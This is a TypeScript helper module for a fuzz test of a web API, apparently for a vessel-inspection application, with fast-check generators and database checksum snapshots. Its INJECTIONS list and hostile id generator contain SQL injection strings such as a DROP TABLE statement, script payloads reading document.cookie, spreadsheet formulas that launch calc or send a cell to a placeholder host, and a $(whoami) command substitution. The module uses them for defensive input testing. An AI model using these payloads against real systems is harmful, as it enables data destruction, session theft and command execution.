import fc from "fast-check";
import type { Knex } from "knex";
import type { RoleWorld } from "./role-world";

/*
 * Building blocks of the fuzzed API test (tests/integration/fuzz-routes.test.ts). Each
 * feature adds a file in tests/integration/fuzz-cases/ exporting `fuzzCases`: for every API
 * route of the registry (lib/auth/route-rules.ts) the inputs it takes, shaped like real
 * ones with fields swapped for hostile values. A route without a case fails the test.
 */

export type WorldUserKey = keyof RoleWorld["users"];

/** One request as the fuzzer builds it: route params, query string, and a JSON body or raw bytes. */
export type FuzzInput = {
  params?: Record<string, string | string[]>;
  headers?: Record<string, string>;
  query?: string;
  /** Sent as JSON. Absent: no body. */
  body?: unknown;
  /** Sent as is, instead of `body` (not JSON, or JSON under another type). */
  raw?: { text: string; contentType: string | null };
};

/** Calls another route of the registry as the same caller (for reading back what was saved). */
export type RouteCaller = (key: string, input: FuzzInput, as?: WorldUserKey) => Promise<{ status: number; json: unknown }>;

/** One text field an injection string is sent in, and where it comes back. */
export type EchoField<F> = {
  field: string;
  /** The request carrying `text` in the field (everything else valid). */
  send: (fx: F, text: string) => Promise<FuzzInput>;
  /** The field's value as the API answers it afterwards. */
  readBack: (fx: F, call: RouteCaller, sent: { status: number; json: unknown }) => Promise<unknown>;
};

export type FuzzCase<F = unknown> = {
  /** Who calls: a role the rule allows, on vessel 1 (the fuzzer also calls as nobody and as crew of vessel 2). */
  as: WorldUserKey;
  /** Records the inputs aim at, built once through the real mutations. */
  setup: (world: RoleWorld) => Promise<F>;
  /** Route params, real ones (the fuzzer mixes in hostile ids itself). */
  params?: (fx: F) => fc.Arbitrary<Record<string, string | string[]>>;
  /** Bodies shaped like real ones with hostile values in their fields (the fuzzer adds random JSON and non-JSON). */
  body?: (fx: F) => fc.Arbitrary<unknown>;
  query?: (fx: F) => fc.Arbitrary<string>;
  /** Extra request headers (a bearer token, say). */
  headers?: (fx: F) => fc.Arbitrary<Record<string, string>>;
  /** Filled in just before the request (e.g. the record's current revision), so inputs reach past the lock. */
  prepare?: (fx: F, input: FuzzInput) => Promise<FuzzInput>;
  /** Tables a refused request may still write (e.g. failed sign-ins are counted). */
  mayWrite?: string[];
  /** Text fields that must come back unchanged when accepted. */
  echo?: EchoField<F>[];
};

/** Type helper so each case keeps its fixture's type. */
export const fuzzCase = <F>(c: FuzzCase<F>): FuzzCase<F> => c;

// ── hostile values ───────────────────────────────────────────────────────────────

/**
 * Injection strings every text field must store and answer as plain text: SQL (quotes,
 * comments, stacked statements), HTML and script, spreadsheet formulas (OWASP's CSV
 * injection list: =, +, -, @, tab and carriage return first), and awkward Unicode.
 */
export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE inspections; --",
  "\\'; SELECT SLEEP(5); -- ",
  "1\" UNION SELECT password FROM account --",
  "%' AND 1=0 /*",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(document.cookie)>",
  "\"><svg/onload=alert(1)>",
  "javascript:alert(1)",
  "{{constructor.constructor('alert(1)')()}}",
  "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")",
  "=cmd|' /C calc'!A0",
  "+A1+B1",
  "-2+3+A1",
  "@SUM(A1:A9)",
  "\t=SUM(A1:A2)",
  "\r=SUM(A1:A2)",
  "Ölwechsel ½ — 25 µm ✓ 𝔘𝔫𝔦 😀 مرحبا 你好",
  "\u202Egnp.exe",
  "line one\nline two",
  "back\\slash and `tick` and $(whoami)",
  "__proto__",
];

/** Hostile strings for any field: injections, empty, huge, control characters, any Unicode. */
export const hostileString = (): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constantFrom(...INJECTIONS),
    fc.constantFrom("", " ", "\u0000", "null", "undefined", "NaN", "1e309", "-0", "0x1F", "9".repeat(400), "a".repeat(6000)),
    fc.string({ unit: "grapheme", maxLength: 40 }),
    fc.string({ unit: "binary", maxLength: 20 }),
  );

/** Anything JSON can carry where a number is expected, and where a string is expected. */
export const hostileValue = (): fc.Arbitrary<unknown> =>
  fc.oneof(
    hostileString(),
    fc.constantFrom(null, true, false, 0, -1, -0, 0.5, 1e308, -1e308, 2 ** 31, 2 ** 32, 2 ** 53 + 1, Number.MAX_SAFE_INTEGER, [], {}),
    fc.double(),
    fc.integer(),
    fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 }),
  );

/** A field that is usually valid (so other fields are checked too) and sometimes hostile. */
export const mostly = <T>(valid: fc.Arbitrary<T>, hostile: fc.Arbitrary<unknown> = hostileValue()): fc.Arbitrary<unknown> =>
  fc.oneof({ weight: 3, arbitrary: valid as fc.Arbitrary<unknown> }, { weight: 1, arbitrary: hostile });

/** A JSON object built from field arbitraries, sometimes with a field left out or an extra one added. */
export function shapedObject(fields: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<Record<string, unknown>> {
  const keys = Object.keys(fields);
  return fc
    .tuple(
      fc.record(fields),
      fc.option(fc.constantFrom(...keys), { freq: 6 }),
      fc.option(fc.tuple(fc.constantFrom("__proto__", "constructor", "id", "state", "approvedBy", "x"), hostileValue()), { freq: 6 }),
    )
    .map(([rec, drop, extra]) => {
      const out: Record<string, unknown> = { ...rec };
      if (drop) delete out[drop];
      if (extra) Object.defineProperty(out, extra[0], { value: extra[1], enumerable: true, writable: true, configurable: true });
      return out;
    });
}

/** Ids as they appear in an address: real ones are the case's; these never name a record the caller may reach. */
export const hostileId = (): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constantFrom("0", "-1", "1.5", "1e3", "007", "4294967296", "4294967295", "99999999", "18446744073709551616", "abc", "", " 1", "1 ", "NaN", "%00", "1;DROP TABLE x", "' OR 1=1 --", "../1", "１２"),
    fc.nat().map(String),
    fc.string({ maxLength: 12 }),
  );

// ── the database before and after ────────────────────────────────────────────────

export type DbSnapshot = Map<string, string>;

/** Row count and CHECKSUM TABLE of every table (but those named), to prove a refused request changed nothing. */
export async function snapshotTables(db: Knex, except: string[] = []): Promise<DbSnapshot> {
  const tables = ((await db.raw("SHOW TABLES"))[0] as Record<string, string>[]).map((r) => Object.values(r)[0]).filter((t) => !except.includes(t));
  const out: DbSnapshot = new Map();
  if (!tables.length) return out;
  const sums = (await db.raw(`CHECKSUM TABLE ${tables.map((t) => `\`${t}\``).join(", ")}`))[0] as { Table: string; Checksum: string | number | null }[];
  const counts = (await db.raw(`SELECT ${tables.map((t, i) => `(SELECT COUNT(*) FROM \`${t}\`) AS c${i}`).join(", ")}`))[0][0] as Record<string, number>;
  tables.forEach((t, i) => out.set(t, `${counts[`c${i}`]} rows`));
  for (const s of sums) {
    const name = s.Table.split(".").pop()!;
    out.set(name, `${out.get(name)}, checksum ${s.Checksum}`);
  }
  return out;
}

/** The tables whose count or checksum differ between two snapshots, with both values. */
export function changedTables(before: DbSnapshot, after: DbSnapshot): string[] {
  const names = new Set([...before.keys(), ...after.keys()]);
  return [...names].filter((t) => before.get(t) !== after.get(t)).map((t) => `${t}: ${before.get(t)} → ${after.get(t)}`);
}

/** Every path into a JSON value (containers included), for replacing one part of it. */
function pathsOf(value: unknown, at: (string | number)[] = [], out: (string | number)[][] = []): (string | number)[][] {
  if (at.length) out.push(at);
  if (Array.isArray(value)) value.forEach((v, i) => pathsOf(v, [...at, i], out));
  else if (value && typeof value === "object") for (const [k, v] of Object.entries(value)) pathsOf(v, [...at, k], out);
  return out;
}

/**
 * A valid body with up to three of its parts (a leaf, an array, a sub-object) replaced by
 * hostile values, or dropped; now and then left valid, so the route accepts some runs.
 */
export function mutatedFrom<T>(valid: T, hostile: fc.Arbitrary<unknown> = hostileValue()): fc.Arbitrary<unknown> {
  const paths = pathsOf(valid);
  if (!paths.length) return fc.constant(valid);
  const edit = fc.tuple(fc.nat({ max: paths.length - 1 }), fc.option(hostile, { freq: 8, nil: undefined }));
  return fc.array(edit, { minLength: 0, maxLength: 3 }).map((edits) => {
    const copy = structuredClone(valid) as unknown;
    for (const [i, value] of edits) {
      const p = paths[i];
      let parent = copy as Record<string | number, unknown>;
      for (const seg of p.slice(0, -1)) {
        const next = parent?.[seg];
        if (!next || typeof next !== "object") {
          parent = undefined as never;
          break;
        }
        parent = next as Record<string | number, unknown>;
      }
      if (!parent) continue;
      const last = p[p.length - 1];
      if (value === undefined) delete parent[last];
      else parent[last] = value;
    }
    return copy;
  });
}
